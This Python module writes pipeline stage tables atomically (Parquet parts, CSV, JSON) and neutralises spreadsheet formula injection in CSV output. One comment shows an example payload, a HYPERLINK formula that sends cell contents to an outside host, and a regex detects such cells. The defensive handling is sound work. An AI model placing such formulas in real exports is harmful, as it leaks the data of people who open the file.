"""Reading and writing stage tables.

Every write goes to a temporary file in the target folder and is renamed into place, so an interrupted
run never leaves a half-written table that a later stage would read. A write whose bytes equal the file
already there leaves the file (and its mtime) alone, so make re-runs only the stages whose inputs changed.
"""
from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import shutil
import tempfile
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.dataset as ds
import pyarrow.parquet as pq

from .schemas import Table, check, to_arrow


class ConfigError(Exception):
    """A fatal configuration problem: the CLI prints it on one line and exits non-zero.

    The message is always one line (newlines from file names or parser messages are folded into spaces).
    """

    def __str__(self) -> str:
        return " ".join(super().__str__().split())


class TableError(ConfigError, ValueError):
    """A stage table that exists but cannot be read (truncated, not Parquet)."""


def check_not_input(source: Path, target: Path, what: str) -> None:
    """Refuse to write `what` (a command's --out file) over its --in file: the researcher's passages would be
    replaced by the output, under any name the two paths give the file (compared by device and inode)."""
    try:
        same = os.path.samefile(source, target)
    except OSError:  # the target does not exist yet
        return
    if same:
        raise ConfigError(f"{target}: is the --in file; writing the {what} there would replace the passages given: "
                          "choose another --out")


def _umask() -> int:
    # the only portable way to read the umask is to set it; done once, at import, before any threads
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


_UMASK = _umask()
_FILE_MODE, _FOLDER_MODE = 0o666 & ~_UMASK, 0o777 & ~_UMASK
# a temporary file this old was left by a run that was killed outright (SIGKILL, power loss); younger ones may
# belong to a writer still at work
STALE_TEMP_SECONDS = 3600


def named(exc: OSError, path) -> OSError:
    """`exc`, naming `path` if it names no file (a write that fails for want of space names none) or names the
    hidden temporary file or folder a write of `path` makes beside it (`.NAME.XXXX.tmp`), which the researcher
    never sees."""
    temp = f".{Path(path).name}."
    if exc.filename and not any(p.startswith(temp) and p.endswith(".tmp") for p in Path(str(exc.filename)).parts):
        return exc
    return OSError(exc.errno, exc.strerror or str(exc) or type(exc).__name__, str(path))


class Publication:
    """Output files that change as one set. While one is open in this process, write_bytes_atomic leaves each
    new file as a hidden temporary file beside its target (see `publishing`); `commit` renames them all into
    place, with nothing left to write that a full disk could stop, then runs what was to be done after
    (`after_publication`); `abort` removes them, so the previous set stays whole."""

    def __init__(self):
        self.pid = os.getpid()
        self._pending: dict[Path, Path] = {}  # target -> its new content, written beside it
        self._after: list = []

    def add(self, new: Path, target: Path) -> None:
        self.discard(target)
        self._pending[Path(target)] = Path(new)

    def discard(self, target: Path) -> None:
        old = self._pending.pop(Path(target), None)
        if old is not None:
            _unlink(old)

    def commit(self) -> None:
        folders = sorted({t.parent for t in self._pending})
        try:
            for target in list(self._pending):
                try:
                    os.replace(self._pending[target], target)
                except OSError as exc:
                    raise named(exc, target) from None
                del self._pending[target]
        except BaseException:
            self.abort()
            raise
        for folder in folders:
            _fsync_dir(folder)
        after, self._after = self._after, []
        for fn in after:
            fn()

    def hand_over(self) -> list[tuple[Path, Path]]:
        """The (new file, target) pairs not yet published, which another process's publication is to take on
        (`add`): this one forgets them."""
        pairs, self._pending = list(self._pending.items()), {}
        return [(new, target) for target, new in pairs]

    def abort(self) -> None:
        for new in self._pending.values():
            _unlink(new)
        self._pending.clear()
        self._after.clear()


_PUBLICATION: Publication | None = None


def active_publication() -> Publication | None:
    """The publication this process has open (a forked child does not share its parent's)."""
    pub = _PUBLICATION
    return pub if pub is not None and pub.pid == os.getpid() else None


@contextlib.contextmanager
def publishing():
    """Files written in this block are published as one set when it ends without an error, and none of them
    otherwise (a full disk, a failed workbook, Ctrl-C): readers of the output folder never find some files
    from this run and others from the last. Nested blocks join the outer one."""
    global _PUBLICATION
    if active_publication() is not None:
        yield _PUBLICATION
        return
    pub = _PUBLICATION = Publication()
    try:
        yield pub
    except BaseException:
        pub.abort()
        raise
    finally:
        _PUBLICATION = None
    pub.commit()


def after_publication(fn) -> None:
    """Run `fn` once the open publication is in place (dropped if it is aborted), or now if none is open."""
    pub = active_publication()
    if pub is None:
        fn()
    else:
        pub._after.append(fn)


def publish_file(new: Path, target: Path) -> None:
    """Put the finished file `new` (in the same folder) in place of `target`, as part of the open publication
    if there is one. A target that already holds these bytes keeps its mtime."""
    new, target = Path(new), Path(target)
    try:
        same = target.is_file() and target.stat().st_size == new.stat().st_size and \
            target.read_bytes() == new.read_bytes()
    except OSError:
        same = False
    pub = active_publication()
    if same:
        _unlink(new)
        if pub is not None:
            pub.discard(target)
    elif pub is not None:
        pub.add(new, target)
    else:
        try:
            os.replace(new, target)
        except OSError as exc:
            raise named(exc, target) from None
        _fsync_dir(target.parent)


def _unlink(path: Path) -> None:
    try:
        os.unlink(path)
    except OSError:
        pass


def write_bytes_atomic(path: Path, data: bytes, publish: bool = True) -> bool:
    """Write `data` to `path` atomically; return False when the file already held exactly these bytes.

    The bytes go to a temporary file next to `path` (same file system), are flushed to disk, and the file is
    renamed over `path` (when a publication is open and `publish` is true, when the publication is
    committed). Whatever interrupts the write (an error, Ctrl-C, a full disk) leaves the previous file
    untouched and removes the temporary file; the error names `path`. The new file gets the old file's
    permissions, or the usual ones for a new file (0666 less the umask; mkstemp alone would make it private
    to the owner).
    """
    path = Path(path)
    pub = active_publication() if publish else None
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        try:
            st = path.stat()
        except OSError:
            st = None
        if st is not None and st.st_size == len(data) and path.is_file() and path.read_bytes() == data:
            if pub is not None:
                pub.discard(path)  # an earlier write in this publication is undone
            return False
        mode = (st.st_mode & 0o7777) if st is not None and path.is_file() else _FILE_MODE
        fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".tmp")
    except OSError as exc:
        raise named(exc, path) from None
    try:
        with os.fdopen(fd, "wb") as fh:
            fh.write(data)
            fh.flush()
            os.fsync(fh.fileno())
        os.chmod(tmp, mode)
        if pub is not None:
            pub.add(Path(tmp), path)
            return True
        os.replace(tmp, path)
    except BaseException as exc:
        _unlink(tmp)
        if isinstance(exc, OSError):
            raise named(exc, path) from None
        raise
    _fsync_dir(path.parent)
    _remove_stale_temps(path)
    return True


def _remove_stale_temps(path: Path) -> None:
    prefix, cutoff = f".{path.name}.", time.time() - STALE_TEMP_SECONDS
    try:
        with os.scandir(path.parent) as entries:
            stale = [e.path for e in entries if e.name.startswith(prefix) and e.name.endswith(".tmp")
                     and not e.is_symlink() and e.stat(follow_symlinks=False).st_mtime < cutoff]
    except OSError:
        return
    for p in stale:
        try:
            if os.path.isdir(p):
                shutil.rmtree(p)
            else:
                os.unlink(p)
        except OSError:
            pass


def _fsync_dir(folder: Path) -> None:
    """Make the rename itself durable (best effort: not every platform can open a folder)."""
    try:
        fd = os.open(folder, os.O_RDONLY)
    except OSError:
        return
    try:
        os.fsync(fd)
    except OSError:
        pass
    finally:
        os.close(fd)


def read_table(table: Table, out_dir: Path, columns: list[str] | None = None) -> pd.DataFrame:
    """A whole stage table (all its parts, in order), optionally only some columns."""
    path = Path(out_dir) / table.file
    if not path.exists():
        raise ConfigError(f"{path}: missing; run the stage that writes '{table.name}' first")
    try:
        parts = part_files(path)
        if parts:
            # one scan over all parts (threaded), in part order
            t = ds.dataset([str(p) for p in parts], format="parquet", schema=table.arrow_schema).to_table(
                columns=columns)
        else:
            t = table.arrow_schema.empty_table().select(columns or list(table.columns))
        df = t.to_pandas()
    except (OSError, pa.ArrowException) as exc:
        raise TableError(f"{path}: cannot be read ({type(exc).__name__}: {exc}); "
                         f"run the stage that writes '{table.name}' again") from None
    return df if columns else check(df, table)


class PartCache:
    """Rows derived from each part of a stage table, kept in one file by part name, so that reading them again
    opens only the parts not seen before (a few after an incremental run) instead of every part. A part's name
    carries its content key: the same name means the same rows. `tag` says what else the derived rows depend
    on (rows cached under another tag are derived again)."""

    def __init__(self, path: Path, schema: pa.Schema):
        self.path, self.schema = Path(path), schema
        self._old: dict[str, tuple[str, pa.Table]] = {}
        self._new: list[tuple[str, str, pa.Table]] = []
        self._changed = False
        try:
            cached = pq.read_table(self.path)
            spec = json.loads((cached.schema.metadata or {})[b"parts"])
            cached = cached.cast(schema)
        except (OSError, KeyError, ValueError, TypeError, pa.ArrowException):
            return  # no cache, or one from other code: everything is read again
        offset = 0
        for name, tag, rows in spec:
            self._old[name] = (tag, cached.slice(offset, rows))
            offset += rows

    def rows(self, name: str, derive, tag: str = "") -> pa.Table:
        """The rows cached for the part `name` under `tag`, else `derive()` (and cached)."""
        old = self._old.get(name)
        if old is not None and old[0] == tag:
            rows = old[1]
        else:
            rows = derive().cast(self.schema)
            self._changed = True
        self._new.append((name, tag, rows))
        return rows

    def save(self) -> None:
        """Keep what this pass read (only the parts it asked for), if that differs from what was cached."""
        if not self._changed and [n for n, _, _ in self._new] == list(self._old):
            return
        table = pa.concat_tables([rows for _, _, rows in self._new]) if self._new else self.schema.empty_table()
        spec = json.dumps([[name, tag, rows.num_rows] for name, tag, rows in self._new])
        self.path.parent.mkdir(parents=True, exist_ok=True)
        write_parquet(table.replace_schema_metadata({"parts": spec}), self.path)


def read_parts(table: Table, parts: list[Path], columns: list[str], cache: Path, saves: list | None = None
               ) -> tuple[pa.Table, np.ndarray]:
    """Some columns of every part, and the position of each row's part; parts read before come from `cache`.
    The cache is updated at once, or by the callables added to `saves` when the caller has better things to do
    first."""
    schema = pa.schema([table.arrow_schema.field(c) for c in columns])
    store = PartCache(cache, schema)
    pieces = [store.rows(p.name, lambda p=p: pq.read_table(p, columns=columns, schema=table.arrow_schema))
              for p in parts]
    if saves is None:
        store.save()
    else:
        saves.append(store.save)
    rows = pa.concat_tables(pieces) if pieces else schema.empty_table()
    return rows, np.repeat(np.arange(len(pieces)), [t.num_rows for t in pieces])


# A spreadsheet opening a CSV runs a cell that starts with = + - @ as a formula (tab and CR too: Excel drops them
# and reads on), so a corpus string such as a title =HYPERLINK("http://x/?"&A1) would leak or run. OWASP's
# remedy: a leading ' makes the cell text. Cells that already start with quotes before such a character get one
# more, so that `restore` gives back exactly what was written.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA = re.compile(r"'*[=+\-@\t\r]")


def neutralise(value: str) -> str:
    """A text cell no spreadsheet will run as a formula."""
    return "'" + value if _FORMULA.match(value) else value


def restore(value: str) -> str:
    """The text `neutralise` was given."""
    return value[1:] if value.startswith("'") and _FORMULA.match(value, 1) else value


def _neutralised_column(s: pd.Series) -> pd.Series:
    if pd.api.types.is_numeric_dtype(s) or pd.api.types.is_bool_dtype(s):
        return s  # numbers stay numbers (a negative count is not a formula)
    try:
        hit = s.str.match(_FORMULA.pattern, na=False).to_numpy(dtype=bool)
    except (AttributeError, TypeError):  # no strings in the column
        return s
    if not hit.any():
        return s
    s = s.astype(object)
    s[hit] = ["'" + v for v in s[hit]]
    return s


def csv_bytes(df: pd.DataFrame) -> bytes:
    cells = df.copy(deep=False)
    cells.columns = [neutralise(c) if isinstance(c, str) else c for c in df.columns]
    for i in range(cells.shape[1]):
        column = cells.iloc[:, i]
        safe = _neutralised_column(column)
        if safe is not column:
            cells.isetitem(i, safe)
    text = cells.to_csv(index=False, lineterminator="\n")
    if "\r" in text:
        # the csv module quotes a field holding a CR only when CR is part of the line terminator, and an unquoted
        # CR ends the row in every reader: write with CRLF, then end rows with LF again outside quoted fields
        # (an unquoted field never holds a quote character, so quotes alternate in and out of fields)
        parts = cells.to_csv(index=False, lineterminator="\r\n").split('"')
        parts[::2] = [p.replace("\r\n", "\n") for p in parts[::2]]
        text = '"'.join(parts)
    # UTF-8 with BOM so Excel in a Chinese locale opens the file as UTF-8
    return text.encode("utf-8-sig")


def read_csv(path: Path, **options) -> pd.DataFrame:
    """A CSV this project wrote, with its cells as they were before `neutralise` (empty cells are '');
    `options` go to pandas.read_csv."""
    df = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False, **options)
    df.columns = [restore(c) if isinstance(c, str) else c for c in df.columns]
    for c in df.columns:
        if not (pd.api.types.is_numeric_dtype(df[c]) or pd.api.types.is_bool_dtype(df[c])):
            df[c] = [restore(v) if isinstance(v, str) else v for v in df[c].tolist()]
    return df


def write_csv(df: pd.DataFrame, path: Path) -> Path:
    write_bytes_atomic(Path(path), csv_bytes(df))
    return Path(path)


def write_parquet(df: "pd.DataFrame | pa.Table", path: Path) -> Path:
    buf = io.BytesIO()
    if isinstance(df, pa.Table):
        table = df  # its schema metadata, if any, is the caller's
    else:
        table = pa.Table.from_pandas(df.reset_index(drop=True), preserve_index=False).replace_schema_metadata(None)
    pq.write_table(table, buf, compression="zstd")
    write_bytes_atomic(Path(path), buf.getvalue())
    return Path(path)


def write_json(obj, path: Path, publish: bool = True) -> Path:
    write_bytes_atomic(Path(path), (json.dumps(obj, ensure_ascii=False, indent=2, sort_keys=True) + "\n").encode(),
                       publish)
    return Path(path)


def write_text(text: str, path: Path) -> Path:
    write_bytes_atomic(Path(path), text.encode("utf-8"))
    return Path(path)


# A stage table is a folder of Parquet files, one per chunk of documents, named part-<position>-<key>.parquet.
# The key identifies the chunk's content (documents, their hashes, the stage's settings), so a run that finds a
# part with the key it would write keeps that file untouched: an incremental run writes only the chunks that
# changed, whatever the size of the corpus. Readers take the parts in name order, i.e. document order.
PART_GLOB = "part-*.parquet"


def part_files(folder: Path) -> list[Path]:
    """The parts of a table folder in order (a single-file table from an older run counts as one part)."""
    folder = Path(folder)
    if folder.is_file():
        return [folder]
    return sorted(folder.glob(PART_GLOB))


def part_key(path: Path) -> str:
    return path.stem.rsplit("-", 1)[-1]


def part_name(position: int, key: str) -> str:
    return f"part-{position:05d}-{key}.parquet"


class TableWriter:
    """Writes a stage table part by part (one chunk of documents each), then puts the table in place.

    `has(key)` says whether the previous table has a part with that key; `keep(key)` reuses it (no reading,
    no writing), `write(rows, key)` writes a new part. New parts go to a staging folder next to the table;
    `close` adds the kept parts to it (as hard links) and swaps it for the previous folder, so a reader never
    sees a mix of old and new parts. When every part is kept in place, nothing is touched (the folder keeps
    its mtime). `abort` (or an exception in a `with` block) removes the staging folder and leaves the
    previous table as it was.
    """

    def __init__(self, table: Table, out_dir: Path):
        self.table = table
        self.path = Path(out_dir) / table.file
        self.path.parent.mkdir(parents=True, exist_ok=True)
        _remove_stale_temps(self.path)
        self._previous = {part_key(p): p for p in part_files(self.path)} if self.path.is_dir() else {}
        self._parts: list[tuple[str, Path | None]] = []  # (key, previous part to keep, or None for a new one)
        self._staging: Path | None = None
        self.rows = 0

    def has(self, key: str) -> bool:
        return key in self._previous

    def _staging_folder(self) -> Path:
        """The hidden folder beside the table that gathers the new table, made when first needed."""
        if self._staging is None:
            self._staging = Path(tempfile.mkdtemp(dir=self.path.parent, prefix=f".{self.path.name}.", suffix=".tmp"))
        return self._staging

    def keep(self, key: str) -> None:
        """Reuse the previous table's part with this key as the next part."""
        old = self._previous[key]
        self.rows += pq.ParquetFile(old).metadata.num_rows
        self._parts.append((key, old))

    def write(self, rows: "pd.DataFrame | pa.Table", key: str) -> None:
        """The next part (a DataFrame is checked against the schema; an Arrow table must carry it)."""
        t = rows if isinstance(rows, pa.Table) else to_arrow(rows, self.table)
        # rows read back from Parquet may name a list's items "element" where the schema says "item" (Arrow's
        # schema equality ignores that, the stored bytes do not): cast, so equal rows give equal files
        t = t.cast(self.table.arrow_schema)
        try:
            pq.write_table(t, self._staging_folder() / part_name(len(self._parts), key), compression="zstd")
        except OSError as exc:  # Arrow's errors name no file: say which table could not be written
            raise named(exc, self.path) from None
        self.rows += t.num_rows
        self._parts.append((key, None))

    def close(self) -> bool:
        """Put the table in place; return True when it changed."""
        try:
            names = [part_name(i, key) for i, (key, _) in enumerate(self._parts)]
            unchanged = (self.path.is_dir() and self._staging is None
                         and names == [p.name for p in part_files(self.path)])
            if unchanged:
                return False
            staging = self._staging_folder()
            for name, (_, old) in zip(names, self._parts):
                if old is not None:
                    _link_or_copy(old, staging / name)
            for p in staging.iterdir():
                os.chmod(p, _FILE_MODE)
            os.chmod(staging, _FOLDER_MODE)
            _fsync_dir(staging)
            _swap_in(staging, self.path)
            self._staging = None
            _fsync_dir(self.path.parent)
            return True
        finally:
            self.abort()

    def abort(self) -> None:
        """Remove the staging folder (the previous table stays)."""
        if self._staging is not None:
            shutil.rmtree(self._staging, ignore_errors=True)
            self._staging = None

    def __enter__(self):
        return self

    def __exit__(self, exc_type, exc, tb):
        if exc_type is None:
            self.close()
        else:
            self.abort()
        return False


def _link_or_copy(src: Path, dst: Path) -> None:
    try:
        os.link(src, dst)
    except OSError:  # a file system without hard links
        shutil.copyfile(src, dst)


def _swap_in(staging: Path, target: Path) -> None:
    """Replace `target` (a file or folder, or nothing) by the folder `staging`. If this fails midway the
    previous target is put back; only a crash between the two renames leaves no table (which later stages
    report as missing) rather than a wrong one."""
    aside = None
    if target.exists() or target.is_symlink():
        aside = Path(tempfile.mkdtemp(dir=target.parent, prefix=f".{target.name}.", suffix=".tmp")) / "old"
        os.replace(target, aside)
    try:
        os.replace(staging, target)
    except BaseException:
        if aside is not None:
            os.replace(aside, target)
            shutil.rmtree(aside.parent, ignore_errors=True)
        raise
    if aside is not None:
        shutil.rmtree(aside.parent, ignore_errors=True)


class ChunkedTable:
    """Rows of a stage table by document, read one part at a time."""

    def __init__(self, table: Table, out_dir: Path):
        self.table = table
        self.path = Path(out_dir) / table.file
        self.parts = part_files(self.path)
        self._index: dict[str, list[int]] | None = None
        self._loaded: dict[int, pa.Table] = {}

    @classmethod
    def open(cls, table: Table, out_dir: Path) -> "ChunkedTable | None":
        """The table, or None when it is missing or unreadable (then nothing can be reused from it)."""
        try:
            return cls(table, out_dir) if (Path(out_dir) / table.file).is_dir() else None
        except (OSError, pa.ArrowException, ValueError):
            return None

    def parts_of(self, doc_id: str) -> list[int]:
        """The positions of the parts that hold rows of `doc_id`."""
        if self._index is None:  # built on first use: a run where every chunk is kept never needs it
            self._index = {}
            for i, p in enumerate(self.parts):
                for d in set(pq.read_table(p, columns=["doc_id"]).column(0).to_pylist()):
                    self._index.setdefault(d, []).append(i)
        return self._index.get(doc_id, [])

    def locate(self, doc_parts: dict[str, int]) -> None:
        """Where each document's rows are (part positions), as recorded when the table was written: saves
        reading the document ids of every part to find them."""
        self._index = {d: [i] for d, i in doc_parts.items()}

    def locate_parts(self, parts: list[list[str]]) -> None:
        """`locate` from the document ids of each part, in part order (a document processed in windows of
        passages has rows in several parts)."""
        index: dict[str, list[int]] = {}
        for i, ids in enumerate(parts):
            for d in ids:
                if not index.get(d) or index[d][-1] != i:
                    index.setdefault(d, []).append(i)
        self._index = index

    def rows_for_part(self, part: int, doc_id: str) -> pd.DataFrame:
        """The rows of one document in one part (a window of a document processed in windows)."""
        t = pq.read_table(self.parts[part])
        return t.filter(pc.equal(t.column("doc_id"), doc_id)).to_pandas()

    def rows_for(self, doc_ids) -> pd.DataFrame:
        return self.arrow_rows_for(doc_ids).to_pandas()

    def arrow_rows_for(self, doc_ids, columns: list[str] | None = None) -> pa.Table:
        ids = [d for d in doc_ids if self.parts_of(d)]
        parts = sorted({i for d in ids for i in self.parts_of(d)})
        schema = self.table.arrow_schema
        if not parts:
            return schema.empty_table().select(columns) if columns else schema.empty_table()
        # keep only the parts of the current chunk in memory
        self._loaded = {i: self._loaded.get(i) or pq.read_table(self.parts[i]) for i in parts}
        t = pa.concat_tables([self._loaded[i] for i in parts])
        if columns:
            t = t.select(columns)
        if t.num_rows and set(ids) >= set(t.column("doc_id").unique().to_pylist()):
            return t  # the whole part is wanted: no filtering
        return t.filter(pc.is_in(t.column("doc_id"), value_set=pa.array(ids, pa.string())))

    def chunks(self):
        """The table one part (chunk of documents) at a time, as lists of row dicts."""
        for p in self.parts:
            yield pq.read_table(p).to_pylist()


def csv_delimiter(text: str) -> str:
    """The field separator of a CSV file as spreadsheets save it: a comma, unless the first line read with commas
    is one field holding ';', a tab or '|' (Excel saves "CSV" with ';' in locales whose decimal mark is a comma,
    and tab-separated text is common)."""
    first = next(csv.reader(io.StringIO(text)), [])
    return next((d for d in (";", "\t", "|") if len(first) == 1 and d in first[0]), ",")
